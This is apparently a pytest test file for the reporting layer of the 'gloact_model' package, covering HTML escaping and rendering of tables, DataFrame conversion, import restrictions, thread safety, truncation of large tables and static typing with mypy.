def test_html_escapes_every_value(named: list[tuple[str, Event]], programme_name: str) -> None:
    renamed = {
        e.id: attrs.evolve(e, name=name, parent_id=None, parent_relation=None) for name, e in named
    }
    catalogue = Catalogue(
        events=tuple(renamed.values()), programmes=(Programme(id="p", name=programme_name),)
    )
    for table in tables(catalogue):
        page = _Page(table._repr_html_())
        assert page.tags <= {"table", "caption", "thead", "tbody", "tr", "th", "td"}
        assert page.texts[0] == table.title
        cells = [cell for row in table.rows for cell in row._texts()]
        if cells:
            headings = len(table.row_type._text_columns)
            assert page.texts[1 + headings :] == cells  # every value whole, and in order
    shown = _Page(participants_by_sex(catalogue)._repr_html_()).texts
    assert all(e.name in shown for e in renamed.values() if e.status is HELD)
    assert programme_name in _Page(programmes_and_funders(catalogue)._repr_html_()).texts


@needs_pandas
@given(any_catalogue)
def test_dataframes_hold_the_records(catalogue: Catalogue) -> None:
    for table in tables(catalogue):
        frame = table.to_dataframe()
        assert tuple(frame.columns) == table.columns
        plain = frame.astype(object).where(frame.notna(), None).to_dict("records")
        assert plain == table.records()


def test_without_pandas_to_dataframe_names_the_extra(
    madrid: Catalogue, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(sys.modules, "pandas", None)
    with pytest.raises(ImportError, match=r"pip install 'gloact_model\[pandas\]'"):
        events_by_kind(madrid).to_dataframe()


def test_tables_can_be_made_from_several_threads_at_once(madrid: Catalogue) -> None:
    expected = tables(madrid)
    with ThreadPoolExecutor(max_workers=4) as pool:
        made = list(pool.map(lambda _: tables(madrid), range(16)))
    assert all(result == expected for result in made)


# The layer ------------------------------------------------------------------------------------


def test_reports_import_only_the_model_attrs_and_the_standard_library() -> None:
    allowed = {"attrs", "gloact_model"} | set(sys.stdlib_module_names)
    package = Path(gloact_model.reports.__file__).parent
    for path in package.glob("*.py"):
        tree = ast.parse(path.read_text())
        lazy = {
            id(node)
            for function in ast.walk(tree)
            if isinstance(function, ast.FunctionDef) and function.name == "to_dataframe"
            for node in ast.walk(function)
        }
        typing_only = {
            id(node)
            for block in ast.walk(tree)
            if isinstance(block, ast.If) and ast.unparse(block.test) == "TYPE_CHECKING"
            for node in ast.walk(block)
        }
        for node in ast.walk(tree):
            if isinstance(node, ast.Import):
                modules = [alias.name for alias in node.names]
            elif isinstance(node, ast.ImportFrom) and node.module:
                modules = [node.module]
            else:
                continue
            for module in modules:
                if module == "pandas":
                    assert id(node) in lazy | typing_only, path.name
                    continue
                assert module.split(".")[0] in allowed, (path.name, module)
                if module.startswith("gloact_model"):
                    assert module.split(".")[1] in ("model", "reports"), (path.name, module)


def test_making_every_table_pulls_in_neither_yaml_cattrs_nor_pandas() -> None:
    code = (
        "import sys\n"
        "from gloact_model import Catalogue, Event, EventKind\n"
        "from gloact_model.reports import tables\n"
        "made = tables(Catalogue(events=(Event(id='a', name='A', kind=EventKind.OTHER),)))\n"
        "[(t.to_text(), t.to_csv(), t.records(), t._repr_html_()) for t in made]\n"
        "print(sorted({m.split('.')[0] for m in sys.modules} & {'yaml', 'cattrs', 'pandas'}))"
    )
    result = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, check=True
    )
    assert result.stdout.strip() == "[]"


def test_a_table_is_generic_in_its_row_type() -> None:
    table: Table[KindRow] = events_by_kind(of(event("a")))
    (row,) = table
    assert row.kind is EventKind.WORKSHOP
    assert Table[KindRow] is not Table  # subscriptable at run time, for annotations


# Views of big tables, and types -------------------------------------------------------------


def test_a_big_table_shows_its_first_rows_and_its_sum_in_a_notebook() -> None:
    many = tuple(event(f"w{n}", participation=counts(10, 4, 6)) for n in range(10_000))
    table = participants_by_sex(Catalogue(events=many))
    assert len(table) == 10_001
    markup = table._repr_html_()
    shown = _Page(markup).texts
    assert len(markup) < 20_000  # not 10,001 rows
    assert markup.count("<tr>") == 1 + 49 + 1 + 1  # headings, first rows, the line, the sum
    assert "W48" in shown
    assert "W49" not in shown
    assert "… and 9,951 more rows (to_csv() and to_dataframe() have them all)" in shown
    assert shown[-5:] == ["All held events", "100,000", "40,000", "60,000", "40%"]
    assert table.to_text().count("\n") == 3 + 10_001  # the text and CSV keep every row
    small = participants_by_sex(Catalogue(events=many[:49]))
    assert "more rows" not in small._repr_html_()
    assert small._repr_html_().count("<tr>") == 1 + 50


def test_html_aligns_numbers_to_the_right_as_the_text_does(madrid: Catalogue) -> None:
    markup = events_by_kind(madrid)._repr_html_()
    assert '<th style="text-align:left">kind</th>' in markup
    assert '<th style="text-align:right">held</th>' in markup
    assert '<td style="text-align:left">training course</td>' in markup
    assert '<td style="text-align:right">1</td>' in markup


def test_every_table_is_a_table_of_rows_for_mypy(tmp_path: Path) -> None:
    mypy = pytest.importorskip("mypy.api")
    code = tmp_path / "use.py"
    code.write_text(
        "from gloact_model import Catalogue\n"
        "from gloact_model.reports import TABLES, KindRow, Row, Table, events_by_kind, tables\n"
        "catalogue = Catalogue()\n"
        "kinds: Table[KindRow] = events_by_kind(catalogue)\n"
        "every: tuple[Table[Row], ...] = (kinds, *tables(catalogue))\n"
        "one: Table[Row] = TABLES['events-by-kind'](catalogue)\n"
        "count: int = len(kinds) + sum(len(table) for table in every)\n"
        "first: KindRow = kinds.rows[0]\n"
        "row: Row = one.rows[0]\n"
    )
    out, err, status = mypy.run(["--strict", "--no-incremental", str(code)])
    assert status == 0, out + err
